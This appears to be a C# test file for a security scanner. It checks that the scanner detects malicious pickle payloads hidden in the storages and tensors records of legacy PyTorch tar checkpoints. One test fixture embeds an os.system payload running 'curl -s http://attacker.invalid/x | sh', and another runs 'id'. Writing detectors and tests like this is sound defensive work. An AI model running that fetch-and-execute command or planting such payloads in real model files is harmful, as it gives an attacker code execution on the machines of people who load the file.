using System.Formats.Tar;
using AtlasGuard.Core.Scanning;
using AtlasGuard.Detectors.Tests.Hostile;
using AtlasGuard.Testing;

namespace AtlasGuard.Detectors.Tests.Models;

/// <summary>
/// Legacy PyTorch tar checkpoints: torch unpickles every record of the storages and tensors members, so a
/// payload in any record, after any amount of raw storage data, must be found.
/// </summary>
public sealed class LegacyTorchTarTests
{
    [Fact]
    public async Task Payload_in_a_later_storage_record_is_found()
    {
        var storages = Concat(
            Int(2),
            StorageArgs("0", "FloatStorage"), Count(3), new byte[12],
            PickleBytes.OsSystem("curl -s http://attacker.invalid/x | sh"), Count(0),
            Int(0));

        var findings = await ScanTar(("sys_info", Int(1)), ("pickle", Int(7)), ("tensors", Int(0)), ("storages", storages));

        var finding = Assert.Single(findings, f => f.RuleId == "AG-MDL-001");
        Assert.Equal("storages", finding.Location.InnerPath);
    }

    [Fact]
    public async Task Payload_in_a_tensor_record_is_found()
    {
        var tensors = Concat(
            Int(2),
            StorageArgs("0", "FloatStorage"), TensorRecord(2),
            PickleBytes.OsSystem("id"), TensorRecord(1));

        var findings = await ScanTar(("sys_info", Int(1)), ("pickle", Int(7)), ("tensors", tensors), ("storages", Int(0)));

        Assert.Single(findings, f => f.RuleId == "AG-MDL-001" && f.Location.InnerPath == "tensors");
    }

    [Fact]
    public async Task Benign_records_produce_nothing_at_medium_or_above()
    {
        var storages = Concat(Int(1), StorageArgs("0", "FloatStorage"), Count(4), new byte[16], Int(0));
        var tensors = Concat(Int(1), StorageArgs("0", "FloatStorage"), TensorRecord(2));

        var findings = await ScanTar(("sys_info", Int(1)), ("pickle", Int(7)), ("tensors", tensors), ("storages", storages));

        Assert.DoesNotContain(findings, f => f.Severity >= Core.Findings.Severity.Medium);
    }

    [Fact]
    public async Task A_storage_record_claiming_more_data_than_exists_does_not_hide_the_rest()
    {
        var storages = Concat(Int(1), StorageArgs("0", "FloatStorage"), Count(long.MaxValue / 2), new byte[8]);

        var findings = await ScanTar(("sys_info", Int(1)), ("pickle", Int(7)), ("tensors", Int(0)), ("storages", storages));

        Assert.DoesNotContain(findings, f => f.Message.Contains("failed (", StringComparison.Ordinal));
    }

    private static async Task<IReadOnlyList<Core.Findings.Finding>> ScanTar(params (string Name, byte[] Data)[] members)
    {
        using var tree = new TempTree();
        var path = Path.Combine(tree.Root, "model.pth");
        await using (var file = File.Create(path))
        await using (var tar = new TarWriter(file, TarEntryFormat.Pax))
        {
            foreach (var (name, data) in members)
            {
                var entry = new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(data) };
                await tar.WriteEntryAsync(entry);
            }
        }

        var engine = new ScanEngine(BuiltInDetectors.CreateSet(DetectorOptions.Default));
        return (await engine.ScanAsync(new ScanRequest { Paths = [tree.Root] })).Findings;
    }

    // Protocol 2 pickle of a small int.
    private static byte[] Int(byte value) => [0x80, 0x02, (byte)'K', value, (byte)'.'];

    // Protocol 2 pickle of (key, 'cpu', torch.<storage>).
    private static byte[] StorageArgs(string key, string storage) => Concat(
        [0x80, 0x02, (byte)'X', (byte)key.Length, 0, 0, 0], System.Text.Encoding.ASCII.GetBytes(key),
        [(byte)'X', 3, 0, 0, 0], "cpu"u8.ToArray(),
        System.Text.Encoding.ASCII.GetBytes($"ctorch\n{storage}\n"),
        [0x87, (byte)'.']);

    private static byte[] Count(long elements) => BitConverter.GetBytes(elements);

    private static byte[] TensorRecord(int dimensions) => Concat(BitConverter.GetBytes(dimensions), new byte[4], new byte[(16 * dimensions) + 8]);

    private static byte[] Concat(params byte[][] parts) => [.. parts.SelectMany(p => p)];
}
